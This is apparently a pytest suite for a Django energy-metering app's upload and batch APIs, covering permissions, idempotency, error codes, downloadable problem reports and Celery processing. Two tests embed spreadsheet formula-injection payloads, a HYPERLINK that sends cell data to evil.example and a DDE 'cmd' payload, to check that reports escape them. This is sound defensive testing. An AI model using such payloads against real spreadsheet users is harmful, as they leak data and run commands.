"""Upload and batch APIs: who may write where, the one error shape, the Celery path."""

import csv
import hashlib
import io
import os
import time
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from accounts.models import Membership
from settlement.metering.models import (
    Reading,
    Upload,
    UploadProblem,
)
from tests.clients import signed_in
from tests.factories import MembershipFactory, UserFactory
from tests.metering_fixtures import canonical

ROW = "SITE-7,2024-05-22T17:00:00Z,2024-05-22T17:15:00Z,2500,,"


def post_file(client, content: bytes, **fields):
    return client.post(
        "/api/v1/metering/uploads/",
        {"file": SimpleUploadedFile("data.csv", content), **fields},
        format="multipart",
    )


@pytest.mark.django_db
def test_an_owner_uploads_for_their_own_site(site, site_owner):
    response = post_file(signed_in(site_owner), canonical(ROW), site_id=site.pk)

    assert response.status_code == 201
    assert (response.json()["status"], response.json()["accepted"]) == ("PROCESSED", 1)
    upload = Upload.objects.get()
    assert (upload.site_id, upload.sent_by_id) == (site.pk, site_owner.pk)


@pytest.mark.django_db
def test_an_owner_cannot_upload_for_another_site(site_owner, other_site):
    response = post_file(signed_in(site_owner), canonical(ROW), site_id=other_site.pk)

    assert response.status_code == 404
    assert response.json()["error"]["code"] == "not_found"
    assert not Upload.objects.exists()


@pytest.mark.django_db
def test_a_viewer_may_not_upload(site):
    viewer = UserFactory(email="viewer@example.com")
    MembershipFactory(user=viewer, participant=site.participant, role=Membership.Role.VIEWER)

    response = post_file(signed_in(viewer), canonical(ROW), site_id=site.pk)

    assert response.status_code == 403
    assert response.json()["error"]["code"] == "permission_denied"
    assert not Upload.objects.exists()


@pytest.mark.django_db
def test_an_owner_file_naming_another_sites_meter_stores_nothing_there(
    site, site_owner, other_site
):
    content = canonical("OTHER-1,2024-05-22T17:00:00Z,2024-05-22T17:15:00Z,1,,")

    response = post_file(signed_in(site_owner), content, site_id=site.pk)

    assert response.json()["status"] == "REJECTED"
    assert not Reading.objects.exists()


@pytest.mark.django_db
def test_owners_see_their_uploads_and_reports_only(site, site_owner, other_site):
    upload_id = post_file(signed_in(site_owner), canonical(ROW), site_id=site.pk).json()[
        "upload_id"
    ]
    stranger = UserFactory(email="stranger@example.com")

    assert signed_in(site_owner).get(f"/api/v1/metering/uploads/{upload_id}/").status_code == 200
    report = signed_in(site_owner).get(f"/api/v1/metering/uploads/{upload_id}/report/")
    assert b"".join(report.streaming_content).decode().splitlines() == [
        "kind,location,field,reason"
    ]
    response = signed_in(stranger).get(f"/api/v1/metering/uploads/{upload_id}/")
    assert response.status_code == 404
    assert response.json()["error"]["code"] == "not_found"


@pytest.mark.django_db
def test_a_rejected_upload_report_is_downloadable(site, site_owner):
    upload_id = post_file(signed_in(site_owner), b"", site_id=site.pk).json()["upload_id"]

    report = signed_in(site_owner).get(f"/api/v1/metering/uploads/{upload_id}/report/")

    assert report["Content-Type"] == "text/csv"
    lines = b"".join(report.streaming_content).decode().splitlines()
    assert lines[1] == "FILE,file,file,the file is empty (0 bytes)"


@pytest.mark.django_db
def test_a_report_never_carries_a_spreadsheet_formula_from_the_file(site, site_owner):
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    rows = io.StringIO()
    csv.writer(rows, lineterminator="\n").writerows(
        [
            [formula, "2024-05-22T17:00:00Z", "2024-05-22T17:15:00Z", "1", "", ""],
            ["SITE-7", "2024-05-22T17:15:00Z", "2024-05-22T17:30:00Z", "@SUM(A1)", "", ""],
            ["SITE-7", "2024-05-22T17:30:00Z", "2024-05-22T17:45:00Z", "-5", "", ""],
        ]
    )
    content = canonical(rows.getvalue().strip())
    upload_id = post_file(signed_in(site_owner), content, site_id=site.pk).json()["upload_id"]

    report = signed_in(site_owner).get(f"/api/v1/metering/uploads/{upload_id}/report/")

    cells = [
        cell
        for row in csv.reader(io.StringIO(b"".join(report.streaming_content).decode()))
        for cell in row
    ]
    assert cells, "the report has rows"
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [cell for cell in cells if cell.startswith("-") and cell != "-5"]
    assert any(formula in cell for cell in cells)


@pytest.mark.django_db
def test_a_report_cell_that_starts_like_a_formula_is_written_as_text(site, site_owner):
    upload_id = post_file(signed_in(site_owner), canonical(ROW), site_id=site.pk).json()[
        "upload_id"
    ]
    # Report text that begins with what a sender wrote, as some formats' reasons do.
    UploadProblem.objects.create(
        upload_id=upload_id,
        seq=1,
        kind=UploadProblem.Kind.REJECTED,
        location='=HYPERLINK("http://evil.example/?d="&A1,"Click")',
        field="@SUM(A1)",
        reason="+1+cmd|' /C calc'!A0",
    )

    report = signed_in(site_owner).get(f"/api/v1/metering/uploads/{upload_id}/report/")

    rows = list(csv.reader(io.StringIO(b"".join(report.streaming_content).decode())))
    assert rows[1] == [
        "REJECTED",
        '\'=HYPERLINK("http://evil.example/?d="&A1,"Click")',
        "'@SUM(A1)",
        "'+1+cmd|' /C calc'!A0",
    ]


@pytest.mark.django_db
def test_the_raw_file_is_downloadable_by_its_sender_and_nobody_else(site, site_owner):
    content = canonical(ROW)
    upload_id = post_file(signed_in(site_owner), content, site_id=site.pk).json()["upload_id"]
    stranger = UserFactory(email="stranger@example.com")

    download = signed_in(site_owner).get(f"/api/v1/metering/uploads/{upload_id}/file/")
    refused = signed_in(stranger).get(f"/api/v1/metering/uploads/{upload_id}/file/")

    assert download.status_code == 200
    assert b"".join(download.streaming_content) == content
    assert download["Content-Disposition"] == 'attachment; filename="data.csv"'
    assert refused.status_code == 404
    assert refused.json()["error"]["code"] == "not_found"


@pytest.mark.django_db
def test_a_rejected_file_is_kept_byte_for_byte(site, site_owner):
    binary = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"
    upload_id = post_file(signed_in(site_owner), binary, site_id=site.pk).json()["upload_id"]

    download = signed_in(site_owner).get(f"/api/v1/metering/uploads/{upload_id}/file/")

    assert Upload.objects.get(pk=upload_id).status == "REJECTED"
    assert b"".join(download.streaming_content) == binary


def batch(key: str, meter: str = "SITE-7", wh: int = 250) -> dict:
    return {
        "idempotency_key": key,
        "readings": [
            {
                "meter_id": meter,
                "flow": "EXPORT",
                "start": "2024-05-22T17:00:00Z",
                "duration_s": 900,
                "wh": wh,
                "quality": "ACTUAL",
            }
        ],
    }


@pytest.mark.django_db
def test_an_aggregator_posts_a_batch_once_per_key(aggregator_user):
    client = signed_in(aggregator_user)

    first = client.post("/api/v1/metering/batches/", batch("k-1"), format="json")
    again = client.post("/api/v1/metering/batches/", batch("k-1"), format="json")

    assert (first.status_code, first.json()["accepted"]) == (201, 1)
    assert (again.status_code, again.json()["duplicate_upload"]) == (200, True)
    assert again.json()["upload_id"] == first.json()["upload_id"]
    assert Reading.objects.get().wh == 250


@pytest.mark.django_db
def test_a_reused_key_with_another_batch_is_a_conflict(aggregator_user):
    client = signed_in(aggregator_user)
    client.post("/api/v1/metering/batches/", batch("k-1"), format="json")

    response = client.post("/api/v1/metering/batches/", batch("k-1", wh=999), format="json")

    assert response.status_code == 409
    assert response.json()["error"]["code"] == "idempotency_key_reused"
    assert Reading.objects.get().wh == 250


@pytest.mark.django_db
def test_an_aggregator_cannot_write_other_participants_channels(aggregator_user, other_site):
    response = signed_in(aggregator_user).post(
        "/api/v1/metering/batches/", batch("k-2", meter="OTHER-1"), format="json"
    )

    assert response.json()["status"] == "REJECTED"
    assert response.json()["errors"][0]["reason"] == (
        "no export channel for meter 'OTHER-1' at the aggregator's participants' sites"
    )
    assert not Reading.objects.exists()


@pytest.mark.django_db
def test_an_owner_token_cannot_post_batches(site_owner):
    response = signed_in(site_owner).post("/api/v1/metering/batches/", batch("k"), format="json")

    assert response.status_code == 403
    assert response.json()["error"]["code"] == "permission_denied"
    assert not Upload.objects.exists()


@pytest.mark.django_db
def test_a_large_upload_goes_through_the_task_eagerly_without_a_broker(
    site, site_owner, settings, django_capture_on_commit_callbacks
):
    if os.environ.get("REDIS_URL"):
        pytest.skip("a broker is configured")
    settings.METERING_INLINE_MAX_BYTES = 10

    content = canonical(ROW)

    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        response = post_file(signed_in(site_owner), content, site_id=site.pk)

    # The processing task, then (run by it) the announcement of the readings it wrote, which
    # queues the measurement of the events they complete (issue 21).
    assert len(callbacks) == 2
    upload = Upload.objects.get()
    assert (upload.status, upload.accepted, upload.rows_done) == ("PROCESSED", 1, 1)
    # The answer was given before the task ran: received, nothing counted yet.
    assert response.status_code == 202
    assert response.json() == {
        "upload_id": upload.pk,
        "format": "auto",
        "status": "RECEIVED",
        "duplicate_upload": False,
        "accepted": 0,
        "duplicates": 0,
        "revised": 0,
        "rejected": 0,
        "estimated": 0,
        "gaps": 0,
        "rejection": None,
        "errors": [],
        "problem_groups": [],
        "channels": [],
        "progress": {"rows_done": 0, "rows_total": None},
        "sha256": hashlib.sha256(content).hexdigest(),
        "size_bytes": len(content),
    }


@pytest.mark.integration
@pytest.mark.skipif(not os.environ.get("REDIS_URL"), reason="needs REDIS_URL and a worker")
@pytest.mark.django_db(transaction=True)
def test_a_worker_processes_a_large_upload(site, site_owner, settings):
    settings.METERING_INLINE_MAX_BYTES = 10
    # The worker reads the file from its own MEDIA_ROOT (the default), not a tmp dir.
    settings.MEDIA_ROOT = Path(os.environ.get("MEDIA_ROOT", settings.VAR_DIR / "media"))

    response = post_file(signed_in(site_owner), canonical(ROW), site_id=site.pk)
    assert response.status_code == 202

    upload = Upload.objects.get()
    for _ in range(100):
        upload.refresh_from_db()
        if upload.status == "PROCESSED":
            break
        time.sleep(0.2)
    assert (upload.status, upload.accepted) == ("PROCESSED", 1)
